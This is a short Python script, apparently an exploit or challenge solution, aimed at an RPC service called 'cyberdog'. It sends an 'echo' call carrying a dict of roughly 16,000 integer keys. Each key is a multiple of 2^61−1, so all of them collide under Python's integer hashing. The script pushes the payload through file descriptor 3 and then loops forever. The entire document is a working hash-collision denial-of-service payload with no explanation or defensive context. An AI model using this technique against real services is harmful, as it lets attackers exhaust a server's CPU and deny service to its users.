import os
m = (1 << 61) - 1
pairs = ",".join('[{"$":"int","v":"%s"},0]' % hex(i * m) for i in range(1, 16000))
body = ('{"t":"call","id":1,"name":"cyberdog.echo","args":[{"$":"dict","v":[' + pairs + ']}],"kwargs":{}}').encode()
body = len(body).to_bytes(4, "big") + body
while body:
    body = body[os.write(3, body):]
while True:
    pass
